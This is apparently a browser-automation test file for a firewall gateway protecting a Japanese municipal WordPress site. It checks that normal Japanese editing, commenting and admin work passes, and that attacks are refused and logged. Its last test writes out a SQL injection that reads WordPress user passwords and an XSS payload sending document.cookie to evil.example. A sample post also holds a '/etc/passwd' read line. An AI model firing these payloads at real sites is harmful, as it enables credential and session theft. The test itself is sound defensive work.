// People at a real WordPress behind the gateway that refuses: editors write in Japanese in both
// editors, visitors comment, ask and search, and nothing is stopped or changed on the way. An attack
// is stopped, and the console finds it by the number on the page.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { signIn } from "./world.js";
import { cannotRun, openSite } from "./site.js";

// What editors of a city write, words of programs among it.
const BLOCKS = `
<!-- wp:heading --><h2 class="wp-block-heading">申込方法（1／2）</h2><!-- /wp:heading -->
<!-- wp:paragraph --><p>窓口「SELECT コーナー」で申込書の from 欄と where 欄に記入し、id=1 or 名前=花子 のように書いてください。UNION 会館（旧 drop in センター）でも受け付けます; 締切は4月30日 -- 消印有効。</p><!-- /wp:paragraph -->
<!-- wp:list --><ul><!-- wp:list-item --><li>持ち物：印鑑 &amp; 本人確認書類</li><!-- /wp:list-item --><!-- wp:list-item --><li>費用：500円（&lt;3歳未満&gt; は無料）</li><!-- /wp:list-item --></ul><!-- /wp:list -->
<!-- wp:table --><figure class="wp-block-table"><table><tbody><tr><td>区分</td><td>金額</td></tr><tr><td>大人</td><td>1,000円 * 2</td></tr></tbody></table></figure><!-- /wp:table -->
<!-- wp:html --><div class="notice" style="border:1px solid #c00"><a href="https://www.example.lg.jp/download.php?file=../申請書.pdf&amp;id=3" target="_blank" rel="noopener">申請書（PDF）</a><iframe src="https://maps.example.jp/embed?pb=!1m18!1m12" width="600" height="200" title="地図"></iframe></div><!-- /wp:html -->
<!-- wp:code --><pre class="wp-block-code"><code>SELECT * FROM users WHERE id = 1; DROP TABLE logs; -- 例
cat /etc/passwd | grep root &amp;&amp; curl http://127.0.0.1/</code></pre><!-- /wp:code -->
<!-- wp:paragraph --><p>くわしくは <a href="/about/">市の紹介</a> と <a href="mailto:kouhou@example.lg.jp">広報係</a> へ。</p><!-- /wp:paragraph -->`;
const SHOWN = [
  "窓口「SELECT コーナー」で申込書の from 欄と where 欄に記入し",
  "1,000円 * 2",
  "SELECT * FROM users WHERE id = 1; DROP TABLE logs; -- 例",
  "cat /etc/passwd | grep root && curl http://127.0.0.1/",
];
const CLASSIC = `<h2>第１回　市民公開講座</h2>
<p>「データを守る」――SQL の select や insert を学びます。講師：情報政策課　係長<br />日時：令和8年10月3日（土）午後1時～3時</p>
<table border="1"><tbody><tr><th>回</th><th>内容</th></tr><tr><td>1</td><td>&lt;script&gt; とは何か？</td></tr></tbody></table>
<p><a href="https://www.example.lg.jp/?page_id=12&amp;order=desc">申込フォーム</a>　お問い合わせ：0287-00-0000（内線 123）</p>`;
const INQUIRY = `お世話になっております。○○自治会の山田です。
1. 令和8年4月1日から「ごみの出し方」が変わると聞きました (広報5月号, p.12)。燃える物 or 燃えない物、どちらですか？
2. 市のサイト https://www.example.lg.jp/gomi/?area=3&lang=ja を見ましたが、select で地区を選べません。
3. 金額は 1,500円×2＝3,000円、税込 10% です。'26年度も同じでしょうか; よろしくお願いします -- 山田`;
const COMMENT = "とても助かりました！ 窓口は 9:00〜17:00 ですね? 「＃子育て」で検索して 1=一番上に出ました。A&B どちらも申請します (^_^;) m(_ _)m";
const SEARCHES = ["子育て 支援", "市民税・県民税 & 納期限", "図書館(休館日)", "「ごみ」or「資源」の収集日", "令和8年度 100%補助"];
const PAGES = [
  "index.php", "edit.php", "edit.php?post_type=page", "upload.php", "edit-comments.php", "edit-tags.php?taxonomy=category",
  "themes.php", "site-editor.php", "plugins.php", "plugin-install.php", "plugin-editor.php", "theme-editor.php", "users.php",
  "user-new.php", "tools.php", "import.php", "export.php", "site-health.php", "site-health.php?tab=debug", "update-core.php",
  "options-writing.php", "options-reading.php", "options-discussion.php", "options-media.php", "options-permalink.php",
  "options-privacy.php", "export-personal-data.php",
];
// One red point.
const PICTURE = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg==",
  "base64",
);

const skip = cannotRun();
if (skip) console.log(`******** SKIPPED: the walk through WordPress: ${skip} ********`);

let site;
let editor;
let written;
/** What people who do nothing wrong were refused. */
const refused = [];
const [ADMINISTRATOR, EDITOR] = [0, 1];

before(async () => {
  if (!skip) site = await openSite();
});
after(() => site?.close());

async function logIn(page, person, password = person.password) {
  await page.goto("/wp-login.php");
  // Its script moves to this field a moment after loading, away from whatever is being typed.
  await page.locator("#user_login:focus").waitFor();
  await page.fill("#user_login", person.name);
  await page.fill("#user_pass", password);
  await Promise.all([page.waitForEvent("load"), page.click("#wp-submit")]);
}

/** Nothing was refused so far, and the rules would have refused nothing. */
async function nothingRefused() {
  const { items } = await site.api("/gateway/blocked");
  const told = items.map((one) => `${one.method} ${one.path}: ${one.matches.map((match) => `${match.rule} ${JSON.stringify(match.hits)}`)}`);
  assert.deepEqual(told, []);
  assert.deepEqual(refused, []);
}

const stored = (page) =>
  page.waitForFunction(() => {
    const post = window.wp.data.select("core/editor");
    return post.isCurrentPostPublished() && !post.isSavingPost() && !post.isEditedPostDirty();
  });

/** Sends a post of the classic editor, which takes no click while it keeps a draft. */
async function publish(page) {
  const before = page.url();
  const stored = (url) => url.searchParams.has("message") && url.href !== before;
  for (let tries = 0; tries < 4 && page.url() === before; tries += 1) {
    await page.locator("#publish:not(.disabled)").click();
    await page.waitForURL(stored, { timeout: 15_000 }).catch(() => {});
  }
  await page.locator("#message.updated").waitFor();
}

async function blockEditor(page, address) {
  await page.goto(address);
  await page.waitForFunction(() => window.wp?.data?.select("core/editor")?.getCurrentPostId());
  await page.evaluate(() => {
    const features = window.wp.data.select("core/edit-post");
    if (features.isFeatureActive("welcomeGuide")) window.wp.data.dispatch("core/edit-post").toggleFeature("welcomeGuide");
  });
}

test("wrong passwords are WordPress's matter, the right one opens", { skip }, async () => {
  editor = await site.visitor(refused);
  for (const wrong of ["', or 1=1 --", "まちがい", "password123"]) {
    await logIn(editor, site.people[EDITOR], wrong);
    await editor.locator("#login_error").waitFor();
  }
  await logIn(editor, site.people[EDITOR]);
  await editor.locator("#wpadminbar").waitFor();
  await nothingRefused();
});

test("a post in the block editor is written, published and edited again", { skip }, async () => {
  await blockEditor(editor, "/wp-admin/post-new.php?editor=block");
  await editor.locator(".editor-post-title__input").click();
  await editor.keyboard.type("令和8年度 春の講座「データ・デ・マモル」");
  await editor.keyboard.press("Enter");
  await editor.keyboard.type("市民の皆さまへ: select できるのは 1 人 1 講座です。");
  await editor.evaluate((text) => {
    const blocks = window.wp.blocks.parse(text).filter((block) => block.name);
    return window.wp.data.dispatch("core/block-editor").insertBlocks(blocks);
  }, BLOCKS);
  await editor.locator(".editor-post-publish-panel__toggle").click();
  await editor.locator(".editor-post-publish-panel .editor-post-publish-button").click();
  await stored(editor);
  written = await editor.evaluate(() => ({
    id: window.wp.data.select("core/editor").getCurrentPostId(),
    link: window.wp.data.select("core/editor").getPermalink(),
    text: window.wp.data.select("core/editor").getEditedPostContent(),
  }));

  await blockEditor(editor, `/wp-admin/post.php?post=${written.id}&action=edit`);
  await editor.evaluate(() => {
    const more = window.wp.blocks.createBlock("core/paragraph", { content: "【追記】定員に達しました (4/1 更新)。" });
    window.wp.data.dispatch("core/block-editor").insertBlocks([more]);
  });
  await editor.locator(".editor-post-publish-button").click();
  await stored(editor);
  const again = await editor.evaluate(() => window.wp.data.select("core/editor").getEditedPostContent());
  assert.ok(again.startsWith(written.text), "what was written first is still there, letter by letter");

  const visitor = await site.visitor(refused);
  await visitor.goto(written.link);
  const shown = await visitor.locator("main").innerText();
  for (const text of [...SHOWN, "【追記】定員に達しました (4/1 更新)。", "市民の皆さまへ: select できるのは 1 人 1 講座です。"]) {
    assert.ok(shown.includes(text), `${text} is missing in ${shown}`);
  }
  assert.equal(await visitor.locator("main iframe, main .notice a").count() > 0, true, "the HTML block is whole");
  await nothingRefused();
});

test("pictures with Japanese names are taken in the editor and in the library", { skip }, async () => {
  const file = (name) => ({ name, mimeType: "image/png", buffer: PICTURE });
  await blockEditor(editor, `/wp-admin/post.php?post=${written.id}&action=edit`);
  await editor.evaluate(() =>
    window.wp.data.dispatch("core/block-editor").insertBlocks([window.wp.blocks.createBlock("core/image")]),
  );
  await editor.locator(".block-editor-media-placeholder input[type=file]").setInputFiles(file("庁舎の写真（正面）.png"));
  await editor.waitForFunction(() =>
    window.wp.data.select("core/block-editor").getBlocks().some((block) => block.name === "core/image" && block.attributes.id),
  );
  await editor.locator(".editor-post-publish-button").click();
  await stored(editor);

  await editor.goto("/wp-admin/media-new.php?browser-uploader");
  await editor.locator("#async-upload").setInputFiles(file("防災マップ & 避難所（令和8年版）.png"));
  await Promise.all([editor.waitForEvent("load"), editor.locator("#html-upload").click()]);
  await editor.goto("/wp-admin/upload.php?mode=list");
  const list = await editor.locator("#the-list").innerText();
  for (const name of ["庁舎の写真", "防災マップ"]) assert.ok(list.includes(name), `${name} is missing in ${list}`);
  await nothingRefused();
});

test("a post in the classic editor is written, published and edited again", { skip }, async () => {
  await editor.goto("/wp-admin/post-new.php?editor=classic");
  await editor.fill("#title", "市民公開講座のご案内");
  await editor.click("#content-html");
  await editor.fill("#content", CLASSIC);
  await publish(editor);
  assert.equal(await editor.inputValue("#content"), CLASSIC);
  await editor.fill("#content", `${CLASSIC}\n<p>※ 満席になりました。</p>`);
  await publish(editor);
  const visitor = await site.visitor(refused);
  await visitor.goto(await editor.locator("#message a").first().getAttribute("href"));
  const shown = await visitor.locator("main").innerText();
  for (const text of ["「データを守る」――SQL の select や insert を学びます。", "<script> とは何か？", "※ 満席になりました。"]) {
    assert.ok(shown.includes(text), `${text} is missing in ${shown}`);
  }
  await nothingRefused();
});

test("a visitor comments, asks and searches in Japanese", { skip }, async () => {
  const visitor = await site.visitor(refused);
  await visitor.goto(written.link);
  await visitor.fill("#comment", COMMENT);
  await visitor.fill("#author", "見本　太郎");
  await visitor.fill("#email", "taro@example.jp");
  await Promise.all([visitor.waitForEvent("load"), visitor.locator("#commentform [type=submit]").click()]);
  const said = await visitor.locator("main").innerText();
  assert.ok(said.includes("とても助かりました！") && said.includes("m(_ _)m"), said);

  await visitor.goto("/contact/");
  const fields = { name: "髙橋　Ｏ'Brien", kana: "タカハシ　オブライエン", mail: "o.brien+city@example.jp", phone: "0287-00-0000", body: INQUIRY };
  for (const [name, value] of Object.entries(fields)) await visitor.fill(`[name=inquiry_${name}]`, value);
  await visitor.selectOption("[name=inquiry_kind]", "ご質問（税・保険）");
  await visitor.locator("[name=inquiry_file]").setInputFiles({ name: "申請書 (写し).png", mimeType: "image/png", buffer: PICTURE });
  await Promise.all([visitor.waitForEvent("load"), visitor.click(".contact button")]);
  await visitor.locator("main [role=status]").waitFor();

  for (const words of SEARCHES) {
    await visitor.goto(`/?s=${encodeURIComponent(words)}`);
    assert.ok((await visitor.title()).includes("検索") || (await visitor.locator("main").count()), words);
  }
  await nothingRefused();
});

test("an administrator reads what was asked, walks all pages and changes settings", { skip }, async () => {
  const page = await site.visitor(refused);
  await logIn(page, site.people[ADMINISTRATOR]);
  await page.goto("/wp-admin/edit.php?post_type=inquiry");
  await page.locator("#the-list .row-title").first().click();
  const kept = JSON.parse(await page.locator("#content").inputValue());
  assert.equal(kept.body.replaceAll("\r\n", "\n"), INQUIRY);
  assert.equal(kept.name, "髙橋　Ｏ'Brien");
  assert.deepEqual([kept.file, kept.file_bytes, kept.kind], ["申請書 (写し).png", PICTURE.length, "ご質問（税・保険）"]);

  for (const path of PAGES) await page.goto(`/wp-admin/${path}`, { waitUntil: "load" });

  await page.goto("/wp-admin/options-general.php");
  await page.fill("#blogdescription", "山と川のまち ― 住む・働く・遊ぶ");
  await Promise.all([page.waitForEvent("load"), page.click("#submit")]);
  assert.equal(await page.inputValue("#blogdescription"), "山と川のまち ― 住む・働く・遊ぶ");
  // What the page of health asks the site itself comes in through the gateway too.
  await page.goto("/wp-admin/site-health.php");
  await page.waitForFunction(() => !document.querySelector(".site-health-progress-wrapper.loading"));
  const health = await page.locator("#health-check-body, .health-check-body").first().innerText();
  assert.doesNotMatch(health, /ループバック.*失敗|REST API.*エラー|loopback.*failed/i);
  await nothingRefused();
});

test("a password is changed and the new one opens", { skip }, async () => {
  const fresh = "Shin-Pass <市役所> 'or' 2026; --";
  await editor.goto("/wp-admin/profile.php");
  await editor.click(".wp-generate-pw");
  await editor.fill("#pass1", fresh);
  const weak = editor.locator("[name=pw_weak]");
  if (await weak.isVisible()) await weak.check();
  await Promise.all([editor.waitForEvent("load"), editor.click("#submit")]);
  await editor.locator("#message.updated").waitFor();
  await editor.goto(await editor.locator("#wp-admin-bar-logout a").getAttribute("href"));
  await editor.locator("#user_login").waitFor();
  await logIn(editor, site.people[EDITOR], fresh);
  await editor.locator("#wpadminbar").waitFor();
  await nothingRefused();
});

test("an attack is refused in Japanese, and the console finds it by its number", { skip }, async () => {
  const attacker = await site.visitor();
  const numbers = [];
  const stopped = async (response) => {
    assert.equal(response.status(), 403);
    const page = await attacker.locator("main").innerText();
    assert.match(page, /送信内容を確認できませんでした/);
    numbers.push(page.match(/[0-9a-f]{24}/)[0]);
  };
  await stopped(await attacker.goto(`/?s=${encodeURIComponent("1' UNION SELECT user_login,user_pass FROM wp_users-- -")}`));
  // Comments are left to WordPress by the exclusions for it; other forms are not.
  await attacker.goto("/contact/");
  await attacker.fill("[name=inquiry_name]", "通りすがり");
  await attacker.fill("[name=inquiry_mail]", "x@example.jp");
  await attacker.fill("[name=inquiry_body]", "いいね<script>document.location='https://evil.example/?c='+document.cookie</script>");
  const [answer] = await Promise.all([
    attacker.waitForResponse((response) => response.request().method() === "POST"),
    attacker.click(".contact button"),
  ]);
  await attacker.locator("dd").first().waitFor();
  await stopped(answer);

  const context = await site.browser.newContext({ baseURL: site.console, locale: "ja-JP" });
  const console = await context.newPage();
  await signIn(console, site.administrator);
  for (const [number, rule] of [[numbers[0], "942100"], [numbers[1], "941100"]]) {
    // The record is written within a second.
    await assert.doesNotReject(async () => {
      for (let tries = 0; tries < 20; tries += 1) {
        await console.goto(`/c/${site.contract}/gateway/blocked/${number}`);
        if ((await console.locator("main").innerText()).includes(rule)) return;
        await console.waitForTimeout(250);
      }
      throw new Error(`the console does not know ${number} and ${rule}`);
    });
  }
  const { items } = await site.api("/gateway/blocked");
  assert.deepEqual(items.map((one) => one.id).sort(), numbers.sort(), "these two and nothing else");
});
